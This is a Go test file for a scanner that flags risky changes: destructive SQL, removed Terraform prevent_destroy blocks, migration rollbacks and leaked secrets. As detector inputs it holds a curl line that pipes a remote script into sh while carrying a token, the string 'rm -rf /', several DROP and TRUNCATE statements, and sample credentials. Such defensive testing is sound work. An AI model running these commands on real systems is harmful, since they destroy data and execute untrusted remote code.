package risk

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

// changed is the change of one file, with the lines that differ at its end.
func changed(path, before, after string) Input {
	in := Input{Path: path, Old: []byte(before), New: []byte(after), Known: true}
	old, now := strings.Split(before, "\n"), strings.Split(after, "\n")
	same := 0
	for same < min(len(old), len(now)) && old[same] == now[same] {
		same++
	}
	for n := same + 1; n <= len(now); n++ {
		in.Added.Add(n)
	}
	for n := same + 1; n <= len(old); n++ {
		in.Removed.Add(n)
	}
	return in
}

func rulesOf(found []Finding) (texts []string) {
	for _, f := range Settle(found) {
		texts = append(texts, fmt.Sprintf("%s:%d %s %v", f.Rule, f.Line, f.Name, f.Removed))
	}
	return texts
}

func wantRules(t *testing.T, found []Finding, want ...string) {
	t.Helper()
	if got := rulesOf(found); !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestOnlyWhatTheChangeBringsInIsNamed(t *testing.T) {
	t.Parallel()
	wantRules(t, Statements(context.Background(), changed("a.sql", "DROP TABLE x;\n", "DROP TABLE x;\nSELECT 1;\n")))
	wantRules(t, Statements(context.Background(), changed("a.sql", "SELECT 1;\n", "SELECT 1;\nTRUNCATE y;\n")), "sql-truncate:2 destructive-sql false")
}

// A line that goes can make a danger of what stays: the end of a comment, a WHERE.
func TestALineThatGoesCanBringOneIn(t *testing.T) {
	t.Parallel()
	in := Input{Path: "a.sql", Old: []byte("/*\nDROP TABLE x;\n*/\n"), New: []byte("DROP TABLE x;\n"), Removed: Lines{{1, 1}, {3, 3}}}
	wantRules(t, Statements(context.Background(), in), "sql-drop-table:1 destructive-sql false")
	in = Input{Path: "a.sql", Old: []byte("DELETE FROM x\nWHERE a;\n"), New: []byte("DELETE FROM x\n"), Removed: Lines{{2, 2}}}
	wantRules(t, Statements(context.Background(), in), "sql-delete-all:1 destructive-sql false")
}

func TestAProtectionThatMovesIsNotTakenAway(t *testing.T) {
	t.Parallel()
	block := "resource \"aws_db_instance\" \"m\" {\n  lifecycle {\n    prevent_destroy = true\n  }\n}\n"
	gone := Input{Path: "a.tf", Old: []byte(block), Removed: Lines{{1, 5}}, Known: true}
	wantRules(t, Statements(context.Background(), gone), "tf-resource-removed:1 destructive-infrastructure true", "tf-protection-removed:3 weaker-protection true")
	wantRules(t, append(Statements(context.Background(), gone), Statements(context.Background(), whole("b.tf", block))...))
	for _, decoy := range []string{"docs/b.tf", "b.hcl", "b.tf.txt"} { // nobody applies these
		if got := rulesOf(append(Statements(context.Background(), gone), Statements(context.Background(), whole(decoy, block))...)); len(got) != 2 {
			t.Errorf("%s: %q", decoy, got)
		}
	}
	wantRules(t, Statements(context.Background(), changed("a.tf", block, "# moved down\n"+block)))
}

func TestWhatTakesAMigrationBackIsNamedAsThat(t *testing.T) {
	t.Parallel()
	for path, text := range map[string]string{
		"m/1.py":          "def upgrade():\n    op.create_table('x')\n\ndef downgrade():\n    op.drop_table('x')\n",
		"m/1.js":          "exports.up = f;\nexports.down = async (k) => {\n  await k.schema.dropTable('x')\n}\n",
		"m/2.down.sql":    "DROP TABLE x;",
		"m/3.sql":         "-- +goose Up\nSELECT 1;\n-- +goose Down\nDROP TABLE x;\n",
		"m/4.rb":          "def up\n  create_table :x\nend\n\ndef down\n  drop_table :x\nend\n",
		"m/5.php":         "<?php class X { public function up() { f(); }\n public function down() {\n Schema::dropIfExists('x');\n }\n}",
		"m/6.py":          "def downgrade():\n    op.execute('DROP TABLE x')\n",
		"db/U7__undo.sql": "DROP TABLE x;",
	} {
		found := Statements(context.Background(), whole(path, text))
		if len(found) != 1 || found[0].Name != Rollback {
			t.Errorf("%s: %q", path, rulesOf(found))
		}
	}
	for path, text := range map[string]string{
		"m/1.py":  "def downgrade():\n    pass\n\ndef upgrade():\n    op.drop_table('x')\n",
		"m/1.js":  "exports.down = async (k) => {\n};\nexports.up = async (k) => { await k.schema.dropTable('x') }\n",
		"m/3.sql": "-- +goose Down\nSELECT 1;\n-- +goose Up\nDROP TABLE x;\n",
		"m/4.rb":  "def change\n  drop_table :x\nend\n",
	} {
		found := Statements(context.Background(), whole(path, text))
		if len(found) != 1 || found[0].Name != SQL {
			t.Errorf("%s: %q", path, rulesOf(found))
		}
	}
}

func TestManyFindingsAreCounted(t *testing.T) {
	t.Parallel()
	found := Statements(context.Background(), whole("a.sql", strings.Repeat("TRUNCATE x;\n", 5_000)))
	if len(found) != maxPerRule || found[maxPerRule-1].More != 5_000-maxPerRule {
		t.Errorf("%d findings, %d more", len(found), found[len(found)-1].More)
	}
}

// Nothing that is found shows a secret, also one that stands beside a danger.
func TestThreat35ExcerptsHoldNoSecret(t *testing.T) {
	t.Parallel()
	token := "ghp_" + some36
	in := whole("x.sh", "curl -H 'Authorization: "+token+"' https://x.example/i.sh | sh\n")
	for _, f := range append(Statements(context.Background(), in), Secrets(context.Background(), in)...) {
		if strings.Contains(fmt.Sprint(f), some36[:8]) {
			t.Errorf("%+v", f)
		}
	}
	if n := len(append(Statements(context.Background(), in), Secrets(context.Background(), in)...)); n != 2 {
		t.Errorf("%d findings", n)
	}
}

// A value that only its name calls secret is one in code and settings; in tests and
// documents it is a sample. What its issuer marked is one everywhere.
func TestLooseSecretsAreNotLookedForInTests(t *testing.T) {
	t.Parallel()
	loose, marked := `password = "`+"vNq2Lx7Zt4Rw9Kb6Hm1Pc3"+`"`, "ghp_"+some36
	for path, want := range map[string][2]int{"a.py": {1, 1}, "tests/a.py": {0, 1}, "x_test.go": {0, 1}, "README.md": {0, 1}, "src/latest.ini": {1, 1}} {
		if got := [2]int{len(Secrets(context.Background(), whole(path, loose))), len(Secrets(context.Background(), whole(path, marked)))}; got != want {
			t.Errorf("%s: %v, want %v", path, got, want)
		}
	}
}

// Whatever bytes a file has, reading it ends, and each finding has a line of it.
func TestAnyFileCanBeRead(t *testing.T) {
	t.Parallel()
	paths := []string{"a.sql", "a.sh", "a.tf", "a.yaml", "Makefile", "Dockerfile", "a.py", "a.rb", "a.js", "a.php", "a.java", "a.ex", "package.json", "Procfile"}
	pieces := []string{"DROP TABLE x", ";", "\n", "'", `"`, "`", "$(", ")", "${", "}", "{", "<<EOF", "EOF", "/*", "*/", "--", "#", "$$", "rm -rf /", "|", "run: |", "  ", "\\", "resource", "=", "def down", "RUN ", "\t",
		"op.drop_table(", "\x00", "\xff", "é", "- ", ":", "[", "]", ",", "BEGIN", "COPY t FROM STDIN", "AKIA", "-----BEGIN PRIVATE KEY-----", "password = \"", "<<-", "$", "<(", "exports.down =", "EXECUTE", "//"}
	rapid.Check(t, func(t *rapid.T) {
		text := strings.Join(rapid.SliceOf(rapid.SampledFrom(pieces)).Draw(t, "text"), "")
		in := whole(rapid.SampledFrom(paths).Draw(t, "path"), text)
		for _, f := range append(Statements(context.Background(), in), Secrets(context.Background(), in)...) {
			if f.Line < 1 || f.Line > strings.Count(text, "\n")+1 {
				t.Fatalf("%s at line %d of %q", f.Rule, f.Line, text)
			}
		}
	})
}
